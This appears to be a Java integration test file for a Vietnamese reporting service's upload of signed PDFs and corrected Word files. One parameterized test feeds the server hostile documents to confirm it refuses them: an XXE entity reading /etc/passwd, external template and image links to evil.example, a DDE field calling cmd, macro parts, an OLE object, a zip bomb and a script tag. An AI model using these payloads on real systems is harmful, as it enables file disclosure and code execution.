package vn.tiendo.report.filing;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.nullValue;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import java.io.IOException;
import java.net.Socket;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import javax.sql.DataSource;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.tiendo.contracts.digest.Sha256;
import vn.tiendo.report.Backing;
import vn.tiendo.report.MovableClock;
import vn.tiendo.report.Sample;
import vn.tiendo.report.Shown;
import vn.tiendo.report.Topic;
import vn.tiendo.report.filing.due.ReportJob;
import vn.tiendo.report.filing.file.OfficeFiles;
import vn.tiendo.report.ledger.LedgerWriter;
import vn.tiendo.report.render.Format;

/** Signed copies and corrected Word files, as offices hand them in and load them down. */
@QuarkusTest
@QuarkusTestResource(Backing.class)
class HandedInFilesTest {

    private static final String FOCAL = "so-khoa-hoc-va-cong-nghe";
    private static final String RELATIONS = "word/_rels/document.xml.rels";

    @Inject
    ReportJob job;

    @Inject
    MovableClock clock;

    @Inject
    LedgerWriter ledger;

    @Inject
    DataSource database;

    @Test
    void aSignedCopyStandsForTheReportAndWhatWasPrintedStaysAsItWas() throws SQLException {
        Sample sample = assembled("ban-ky");
        String id = first(sample);
        Office reporter = Office.reporter(sample, "so-noi-vu");
        reporter.step(id, "submission", null).then().statusCode(200);
        byte[] printed = reporter.asks().get(path(id) + "?format=pdf").asByteArray();
        assertThat(list(reporter, id).getList("items.kind")).hasSize(4).containsOnly("GENERATED");
        assertThat(list(reporter, id).getList("items.ofRecord")).containsOnly(true);
        byte[] signed = OfficeFiles.pdf("Bản ký");

        put(reporter, id, "signed", Format.PDF, signed)
                .then()
                .statusCode(200)
                .body("file.kind", equalTo("SIGNED"))
                .body("file.hash", equalTo(Sha256.hex(signed)))
                .body("file.ofRecord", equalTo(true))
                .header("ETag", "\"" + reporter.status(id).getLong("version") + "\"");

        JsonPath files = list(reporter, id);
        assertThat(files.getList("items.kind"))
                .containsExactly("SIGNED", "GENERATED", "GENERATED", "GENERATED", "GENERATED");
        assertThat(files.getList("items.ofRecord")).containsExactly(true, false, false, false, false);
        assertThat(files.getMap("items[0]"))
                .containsEntry("type", Format.PDF)
                .containsEntry("format", "pdf")
                .containsEntry("size", signed.length)
                .containsEntry("revision", 1)
                .containsEntry("name", "BC 2026 KH 205-KH-UBND - Sở Nội vụ Quảng Ninh (bản ký).pdf")
                .containsEntry("agency", sample.agency("so-noi-vu"))
                .containsKeys("handedInAt", "handedInBy");
        for (String place : List.of(path(id) + "/files/signed", path(id) + "/versions/1/files/signed")) {
            Response answer = reporter.asks().get(place);
            answer.then().statusCode(200).contentType(Format.PDF).header("X-Content-Type-Options", "nosniff");
            assertThat(answer.asByteArray()).isEqualTo(signed);
            String header = answer.header("Content-Disposition");
            assertThat(header)
                    .startsWith("attachment; filename=\"BC 2026 KH 205-KH-UBND - So Noi vu Quang Ninh (ban ky).pdf\"");
            assertThat(URLDecoder.decode(header.substring(header.indexOf("''") + 2), StandardCharsets.UTF_8))
                    .isEqualTo("BC 2026 KH 205-KH-UBND - Sở Nội vụ Quảng Ninh (bản ký).pdf");
            reporter.asks()
                    .header("If-None-Match", answer.header("ETag"))
                    .get(place)
                    .then()
                    .statusCode(304);
        }
        reporter.asks()
                .get(path(id) + "/status")
                .then()
                .body("signedCopy.hash", equalTo(Sha256.hex(signed)))
                .body("signedCopy.type", equalTo(Format.PDF))
                .body("correctedFile", nullValue())
                .body("allowed", hasItem("FILES_SIGNED"));
        assertThat(reporter.asks().get(path(id) + "?format=pdf").asByteArray()).isEqualTo(printed);
        assertThat(reporter.asks().get(path(id) + "/files/pdf").asByteArray()).isEqualTo(printed);
        assertThat(reporter.asks().get(path(id) + "/versions/1/files/pdf").asByteArray())
                .isEqualTo(printed);
        assertThat(text("select payload from outbox where partition_key = '" + id + "' order by id desc limit 1"))
                .contains("\"signedCopy\":\"" + Sha256.hex(signed) + "\"")
                .doesNotContain("correctedFile");
    }

    @Test
    void aNewerCopyTakesThePlaceOfTheOlderWhichIsKept() {
        Sample sample = assembled("ban-ky-moi");
        String id = first(sample);
        Office reporter = Office.reporter(sample, "so-noi-vu");
        reporter.step(id, "submission", null).then().statusCode(200);
        byte[] scan = OfficeFiles.picture("jpg");
        byte[] pdf = OfficeFiles.pdf("Bản ký");
        // Its type is that of its content, whatever its sender says.
        put(reporter, id, "signed", Format.PDF, scan)
                .then()
                .statusCode(200)
                .body("file.type", equalTo("image/jpeg"))
                .body("file.name", containsString("(bản ký).jpg"));
        put(reporter, id, "signed", Format.PDF, pdf).then().statusCode(200);
        long version = reporter.status(id).getLong("version");
        put(reporter, id, "signed", Format.PDF, pdf).then().statusCode(200).body("version", equalTo((int) version));

        JsonPath files = list(reporter, id);
        assertThat(files.getList("items.hash").subList(0, 2)).isEqualTo(List.of(Sha256.hex(pdf), Sha256.hex(scan)));
        assertThat(files.getList("items.ofRecord").subList(0, 2)).isEqualTo(List.of(true, false));
        Response earlier = reporter.asks().get(path(id) + "/files/signed?hash=" + Sha256.hex(scan));
        earlier.then().statusCode(200).contentType("image/jpeg");
        assertThat(earlier.asByteArray()).isEqualTo(scan);
        reporter.asks()
                .get(path(id) + "/files/signed?hash=" + "0".repeat(64))
                .then()
                .statusCode(404)
                .body("detail", equalTo("Báo cáo này chưa có bản ký."));
        assertThat(reporter.asks().get(path(id) + "/history").jsonPath().getList("items.action"))
                .endsWith("SUBMITTED", "SIGNED_COPY", "SIGNED_COPY");
    }

    @Test
    void whatCameInBeforeTheNumberCountsAfterItAndNotForADocumentThatWasHandedInAnew() {
        Sample sample = assembled("ban-ky-va-so");
        String id = first(sample);
        Office reporter = Office.reporter(sample, "so-noi-vu");
        byte[] pdf = OfficeFiles.pdf("Bản ký");
        reporter.step(id, "submission", null).then().statusCode(200);
        put(reporter, id, "signed", Format.PDF, pdf).then().statusCode(200);

        reporter.step(id, "issuance", "{\"number\":\"05/BC-SNV\",\"date\":\"2026-11-10\"}")
                .then()
                .statusCode(200)
                .body("revision", equalTo(2))
                .body("signedCopy.hash", equalTo(Sha256.hex(pdf)));
        assertThat(list(reporter, id).getList("items.revision").subList(0, 2)).isEqualTo(List.of(1, 2));

        Office.focal(sample)
                .step(id, "return", "{\"reason\":\"Thiếu số liệu.\"}")
                .then()
                .statusCode(200);
        put(reporter, id, "signed", Format.PDF, pdf)
                .then()
                .statusCode(409)
                .body(
                        "detail",
                        equalTo(
                                "Báo cáo ở trạng thái “Bị trả lại” không thể nhận bản ký: bản ký được gửi sau khi báo cáo đã nộp."));
        reporter.step(id, "submission", null)
                .then()
                .statusCode(200)
                .body("revision", equalTo(3))
                .body("signedCopy", nullValue());
        reporter.asks().get(path(id) + "/files/signed").then().statusCode(404);
        assertThat(reporter.asks().get(path(id) + "/versions/2/files/signed").asByteArray())
                .isEqualTo(pdf);
    }

    @Test
    void nothingIsTakenBeforeTheReportIsHandedIn() throws SQLException {
        Sample sample = assembled("ban-ky-chua-nop");
        String id = first(sample);
        Office reporter = Office.reporter(sample, "so-noi-vu");
        byte[] word = reporter.asks().get(path(id) + "/files/docx").asByteArray();

        put(reporter, id, "signed", Format.PDF, OfficeFiles.pdf("x")).then().statusCode(409);
        put(reporter, id, "corrected", Format.DOCX, word)
                .then()
                .statusCode(409)
                .body("detail", containsString("không thể nhận bản Word đã chỉnh sửa"));

        assertThat(copies(id)).isZero();
        assertThat(reporter.status(id).getList("allowed")).doesNotContain("FILES_SIGNED", "FILES_CORRECTED");
        String next = sample.report(sample.consolidated(), 2026, FOCAL);
        Office focal = Office.focal(sample);
        focal.asks().get(path(next) + "/files").then().statusCode(200).body("items", equalTo(List.of()));
        focal.asks().get(path(next) + "/files/docx").then().statusCode(404);
        reporter.asks().get(path(next) + "/files").then().statusCode(404);
        reporter.asks().get(path(next) + "/files/docx").then().statusCode(404);
        reporter.asks().get(path(id) + "/versions/9/files").then().statusCode(404);
    }

    @Test
    void itIsHandedInByWhoIssuesTheReportAndByWhoHandedItInForAnother() throws SQLException {
        Sample sample = assembled("ai-gui");
        Office reporter = Office.reporter(sample, "so-noi-vu");
        Office other = Office.reporter(sample, "so-tai-chinh");
        Office focal = Office.focal(sample);
        Office committee = Office.committee(sample);
        Office stranger = Office.of("focal", assembled("ai-gui-khac").province(), null);
        byte[] pdf = OfficeFiles.pdf("Bản ký");
        String id = first(sample);
        reporter.step(id, "submission", null).then().statusCode(200);
        for (Office refused : List.of(other, focal, committee)) {
            put(refused, id, "signed", Format.PDF, pdf).then().statusCode(403);
            assertThat(refused.status(id).getList("allowed")).doesNotContain("FILES_SIGNED");
        }
        for (String file :
                List.of("/files", "/files/signed", "/files/pdf", "/versions/1/files", "/versions/1/files/docx")) {
            stranger.asks().get(path(id) + file).then().statusCode(404);
        }
        stranger.asks()
                .header("If-Match", "\"1\"")
                .contentType(Format.PDF)
                .body(pdf)
                .put(path(id) + "/files/signed")
                .then()
                .statusCode(404);
        assertThat(copies(id)).isZero();

        String forAnother = sample.report(sample.firstLevel(), 2026, "so-tai-chinh");
        focal.step(forAnother, "submission", Office.ON_BEHALF).then().statusCode(200);
        put(focal, forAnother, "signed", Format.PDF, pdf).then().statusCode(200);

        clock.set("2026-11-18T10:00");
        job.run();
        String consolidated = sample.report(sample.consolidated(), 2026, FOCAL);
        focal.step(consolidated, "submission", null).then().statusCode(200);
        put(focal, consolidated, "signed", Format.PDF, pdf).then().statusCode(200);
        put(committee, consolidated, "signed", Format.PDF, OfficeFiles.picture("png"))
                .then()
                .statusCode(200)
                .body("file.type", equalTo("image/png"));
        put(reporter, consolidated, "signed", Format.PDF, pdf).then().statusCode(403);
    }

    @Test
    void aRepetitionIsAnsweredOnceAndAnOldVersionIsRefused() throws SQLException {
        Sample sample = assembled("lap-lai");
        String id = first(sample);
        Office reporter = Office.reporter(sample, "so-noi-vu");
        reporter.step(id, "submission", null).then().statusCode(200);
        String tag = reporter.asks().get(path(id) + "/files").header("ETag");
        byte[] pdf = OfficeFiles.pdf("Bản ký");
        RequestSpecification keyed =
                sending(reporter, Format.PDF, pdf).header("If-Match", tag).header("Idempotency-Key", "ban-ky-01");
        Response once = keyed.put(path(id) + "/files/signed");
        once.then().statusCode(200);

        Response again = sending(reporter, Format.PDF, pdf)
                .header("If-Match", tag)
                .header("Idempotency-Key", "ban-ky-01")
                .put(path(id) + "/files/signed");
        assertThat(again.asString()).isEqualTo(once.asString());
        assertThat(copies(id)).isOne();
        sending(reporter, Format.PDF, OfficeFiles.pdf("Bản khác"))
                .header("If-Match", tag)
                .header("Idempotency-Key", "ban-ky-01")
                .put(path(id) + "/files/signed")
                .then()
                .statusCode(422)
                .body("type", equalTo("/problems/idempotency-key-reused"));
        sending(reporter, Format.PDF, OfficeFiles.pdf("Bản khác"))
                .header("If-Match", tag)
                .put(path(id) + "/files/signed")
                .then()
                .statusCode(412);
        sending(reporter, Format.PDF, pdf)
                .put(path(id) + "/files/signed")
                .then()
                .statusCode(428);
    }

    @Test
    void aLargeFileComesAndGoesWholeAndATooLargeOneIsRefused() throws SQLException, IOException {
        Sample sample = assembled("tep-lon");
        String id = first(sample);
        Office reporter = Office.reporter(sample, "so-noi-vu");
        reporter.step(id, "submission", null).then().statusCode(200);
        byte[] large = OfficeFiles.pdf("Bản quét", 18 << 20);

        put(reporter, id, "signed", Format.PDF, large).then().statusCode(200).body("file.size", equalTo(large.length));

        assertThat(Arrays.equals(reporter.asks().get(path(id) + "/files/signed").asByteArray(), large))
                .isTrue();
        assertThat(text("select count(*) from report_copy_part p join report_copy c on c.id = p.copy where c.report = '"
                        + id + "'"))
                .isEqualTo("5");
        assertThat(announced(id, Format.PDF, 21 << 20))
                .startsWith("HTTP/1.1 413 ")
                .contains("/problems/content-too-large", "20971520");
        // What is no document by its name gets no more room than any other body.
        assertThat(announced(id, "text/plain", 2 << 20))
                .startsWith("HTTP/1.1 413 ")
                .contains("1048576");
    }

    /** The answer to a file of which only the length is sent. */
    private static String announced(String id, String type, int length) throws IOException {
        try (Socket socket = new Socket("localhost", RestAssured.port)) {
            socket.setSoTimeout(10_000);
            String head =
                    "PUT %s/files/signed HTTP/1.1\r\nHost: localhost\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n"
                            .formatted(path(id), type, length);
            socket.getOutputStream().write(head.getBytes(StandardCharsets.US_ASCII));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    @Test
    void bytesThatAreNotThoseThatWereHandedInAreNotGivenOut() throws SQLException {
        Sample sample = assembled("ma-bam");
        String id = first(sample);
        Office reporter = Office.reporter(sample, "so-noi-vu");
        reporter.step(id, "submission", null).then().statusCode(200);
        put(reporter, id, "signed", Format.PDF, OfficeFiles.pdf("Bản ký"))
                .then()
                .statusCode(200);
        try (Connection connection = database.getConnection();
                Statement sql = connection.createStatement()) {
            sql.execute(
                    "insert into report_copy_part (copy, number, bytes) select id, 7, 'x' from report_copy where report = '"
                            + id + "'");
        }
        Response answer = reporter.asks().get(path(id) + "/files/signed");
        assertThat(answer.statusCode()).isEqualTo(500);
        assertThat(answer.contentType()).contains("problem+json");
    }

    @Test
    void theCorrectedFileIsOfRecordAndSaysWhatWasCorrected() {
        Sample sample = assembled("ban-sua");
        String id = first(sample);
        Office reporter = Office.reporter(sample, "so-noi-vu");
        reporter.step(id, "submission", null).then().statusCode(200);
        byte[] printed = reporter.asks().get(path(id) + "/files/docx").asByteArray();
        reporter.asks()
                .get(path(id) + "/files/corrected/differences")
                .then()
                .statusCode(404)
                .body("detail", equalTo("Báo cáo này chưa có bản Word đã chỉnh sửa."));

        put(reporter, id, "corrected", Format.DOCX, printed).then().statusCode(200);
        differences(reporter, id).then().body("items", equalTo(List.of())).body("figuresChanged", equalTo(false));

        byte[] numbered = OfficeFiles.edited(printed, word -> rewrite(word, "Số:", was -> "Số: 05/BC-SNV"));
        put(reporter, id, "corrected", Format.DOCX, numbered).then().statusCode(200);
        JsonPath filled = differences(reporter, id).jsonPath();
        assertThat(filled.getList("items")).hasSize(1);
        assertThat(filled.getList("items[0].figuresNew")).containsExactly("05");
        assertThat(filled.getBoolean("figuresChanged")).isFalse();

        byte[] corrected = OfficeFiles.edited(numbered, word -> {
            rewrite(word, "tổng số|Kế hoạch giao|nhiệm vụ", was -> was.replaceFirst("\\d+", "77"));
            word.createParagraph().createRun().setText("Sở Nội vụ đã đào tạo 123 cán bộ.");
        });
        put(reporter, id, "corrected", Format.DOCX, corrected)
                .then()
                .statusCode(200)
                .body("file.name", equalTo("BC 2026 KH 205-KH-UBND - Sở Nội vụ Quảng Ninh (bản đã chỉnh sửa).docx"));
        JsonPath differences = differences(reporter, id).jsonPath();
        assertThat(differences.getBoolean("figuresChanged")).isTrue();
        assertThat(differences.getString("generated")).isEqualTo(Sha256.hex(printed));
        assertThat(differences.getString("corrected")).isEqualTo(Sha256.hex(corrected));
        assertThat(differences.getList("items.kind")).containsExactly("CHANGED", "CHANGED", "ADDED");
        assertThat(differences.getList("items[1].figuresNew")).containsExactly("77");
        assertThat(differences.getList("items[1].figuresGone")).hasSize(1);
        assertThat(differences.getList("items.figuresChanged")).containsExactly(false, true, true);
        assertThat(differences.getString("items[2].now")).isEqualTo("Sở Nội vụ đã đào tạo 123 cán bộ.");
        assertThat(differences.getList("items[2].figuresNew")).containsExactly("123");
        JsonPath byRevision = reporter.asks()
                .get(path(id) + "/versions/1/files/corrected/differences")
                .jsonPath();
        assertThat(byRevision.<Map<String, Object>>get()).isEqualTo(differences.get());

        JsonPath files = list(reporter, id);
        assertThat(files.getList("items.kind").subList(0, 3)).isEqualTo(List.of("CORRECTED", "CORRECTED", "CORRECTED"));
        assertThat(files.getList("items.ofRecord").subList(0, 4)).isEqualTo(List.of(true, false, false, false));
        Response given = reporter.asks().get(path(id) + "/files/corrected");
        given.then().statusCode(200).contentType(Format.DOCX);
        assertThat(given.header("Content-Disposition")).startsWith("attachment;");
        assertThat(given.asByteArray()).isEqualTo(corrected);
        assertThat(reporter.asks().get(path(id) + "/files/docx").asByteArray()).isEqualTo(printed);
    }

    @ParameterizedTest
    @ValueSource(strings = {"signed", "corrected"})
    void whatIsNoSuchFileIsRefusedByNameAndNotStored(String kind) throws SQLException {
        Sample sample = assembled("tep-la-" + kind);
        String id = first(sample);
        Office reporter = Office.reporter(sample, "so-noi-vu");
        reporter.step(id, "submission", null).then().statusCode(200);
        byte[] word = reporter.asks().get(path(id) + "/files/docx").asByteArray();
        byte[] html = "<!DOCTYPE html><html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8);
        boolean signed = kind.equals("signed");
        SoftAssertions soft = new SoftAssertions();
        refused(soft, reporter, id, kind, new byte[0], 422, "tệp rỗng");
        refused(soft, reporter, id, kind, html, 415, "đây là trang web mang tên một tệp khác");
        refused(
                soft,
                reporter,
                id,
                kind,
                "{\"a\":1}".getBytes(StandardCharsets.UTF_8),
                415,
                "không phải loại tệp được nhận");
        byte[] compound = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        refused(soft, reporter, id, kind, compound, 415, "tệp Office kiểu cũ hoặc có mật khẩu");
        if (signed) {
            refused(soft, reporter, id, kind, word, 415, "tệp Word, Excel hoặc tệp nén; bản ký phải là tệp PDF");
            refused(soft, reporter, id, kind, half(OfficeFiles.pdf("x")), 422, "tải lên chưa hết");
            refused(soft, reporter, id, kind, half(OfficeFiles.picture("png")), 422, "tải lên chưa hết");
            refused(soft, reporter, id, kind, half(OfficeFiles.picture("jpg")), 422, "tải lên chưa hết");
        } else {
            refused(
                    soft,
                    reporter,
                    id,
                    kind,
                    OfficeFiles.pdf("x"),
                    415,
                    "đây là tệp PDF; bản đã chỉnh sửa phải là tệp Word");
            refused(soft, reporter, id, kind, half(word), 422, "tải lên chưa hết");
            byte[] excel = reporter.asks().get(path(id) + "/files/xlsx").asByteArray();
            refused(soft, reporter, id, kind, excel, 415, "tệp Word (.docx)");
            hostileWords(word).forEach((why, file) -> refused(soft, reporter, id, kind, file, 422, why));
        }
        soft.assertAll();
        assertThat(copies(id)).isZero();
    }

    private static Map<String, byte[]> hostileWords(byte[] word) {
        String template =
                "<Relationship Id=\"x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\""
                        + " Target=\"%s\" TargetMode=\"External\"/></Relationships>";
        UnaryOperator<String> document = was ->
                was.replaceFirst("(?s)(<\\?xml[^>]*\\?>)?", "<!DOCTYPE w [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>");
        return Map.of(
                "DTD", OfficeFiles.changed(word, "word/document.xml", document),
                "liên kết ra ngoài (attachedTemplate: https://evil.example/t.dotm)",
                        relation(word, template.formatted("attachedTemplate", "https://evil.example/t.dotm")),
                "liên kết ra ngoài (image: http://evil.example/p.png)",
                        relation(word, template.formatted("image", "http://evil.example/p.png")),
                "liên kết ra ngoài (hyperlink: file:///c:/x.exe)",
                        relation(word, template.formatted("hyperlink", "file:///c:/x.exe")),
                "đối tượng nhúng (oleObject)", relation(word, template.formatted("oleObject", "embeddings/o.bin")),
                "macro (phần “word/vbaproject.bin”)", OfficeFiles.changed(word, "word/vbaProject.bin", was -> "x"),
                "macro (phần “[content_types].xml”)",
                        OfficeFiles.changed(
                                word,
                                "[Content_Types].xml",
                                was -> was.replace(
                                        Format.DOCX + ".main+xml",
                                        "application/vnd.ms-word.document.macroEnabled.main+xml")),
                "trường lấy dữ liệu từ nơi khác",
                        OfficeFiles.changed(
                                word,
                                "word/document.xml",
                                was -> was.replaceFirst(
                                        "</w:p>",
                                        "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>"
                                                + "<w:r><w:instrText>AUTO c:\\\\\\\\cmd</w:instrText></w:r></w:p>")),
                "khi mở ra quá lớn", OfficeFiles.bomb(word, 101));
    }

    private static byte[] relation(byte[] word, String relation) {
        return OfficeFiles.changed(word, RELATIONS, was -> was.replace("</Relationships>", relation));
    }

    private static void refused(
            SoftAssertions soft, Office office, String id, String kind, byte[] file, int status, String why) {
        Response answer = put(office, id, kind, kind.equals("signed") ? Format.PDF : Format.DOCX, file);
        soft.assertThat(answer.statusCode()).as(why + answer.asString()).isEqualTo(status);
        soft.assertThat(answer.contentType()).contains("problem+json");
        soft.assertThat(answer.jsonPath().getString("detail")).contains(why);
    }

    private static byte[] half(byte[] file) {
        return Arrays.copyOf(file, file.length / 2);
    }

    /** Writes the first paragraph, of a cell or not, that has such words, anew. */
    private static void rewrite(XWPFDocument word, String words, UnaryOperator<String> change) {
        XWPFParagraph paragraph = Stream.concat(
                        word.getTables().stream()
                                .flatMap(t -> t.getRows().stream())
                                .flatMap(r -> r.getTableCells().stream())
                                .flatMap(c -> c.getParagraphs().stream()),
                        word.getParagraphs().stream())
                .filter(p ->
                        Pattern.compile(words).matcher(Shown.plain(p.getText())).find())
                .filter(p -> words.equals("Số:") || p.getText().matches("(?s).*\\d.*nhiệm.vụ.*"))
                .findFirst()
                .orElseThrow();
        String was = Shown.plain(paragraph.getText());
        for (int i = paragraph.getRuns().size() - 1; i >= 0; i--) {
            paragraph.removeRun(i);
        }
        paragraph.createRun().setText(change.apply(was));
    }

    private static Response differences(Office office, String id) {
        Response answer = office.asks().get(path(id) + "/files/corrected/differences");
        answer.then().statusCode(200);
        return answer;
    }

    private static JsonPath list(Office office, String id) {
        return office.asks()
                .get(path(id) + "/files")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath();
    }

    private static Response put(Office office, String id, String kind, String type, byte[] file) {
        String tag = office.asks().get(path(id) + "/status").header("ETag");
        return sending(office, type, file).header("If-Match", tag).put(path(id) + "/files/" + kind);
    }

    private static RequestSpecification sending(Office office, String type, byte[] file) {
        return office.asks().contentType(type).body(file);
    }

    private int copies(String id) throws SQLException {
        return Integer.parseInt(text("select count(*) from report_copy where report = '" + id + "'"));
    }

    private String text(String query) throws SQLException {
        try (Connection connection = database.getConnection();
                Statement statement = connection.createStatement();
                ResultSet row = statement.executeQuery(query)) {
            row.next();
            return row.getString(1);
        }
    }

    private static String path(String id) {
        return "/api/v1/reports/" + id;
    }

    private static String first(Sample sample) {
        return sample.report(sample.firstLevel(), 2026, "so-noi-vu");
    }

    private Sample assembled(String province) {
        clock.set("2026-11-10T09:00");
        Sample sample = new Sample(province);
        Topic.send(sample.documents(Sample.REGISTERED));
        Topic.watermark("2026-11-20T00:00:00Z");
        Topic.awaitApplied(ledger);
        job.run();
        return sample;
    }
}
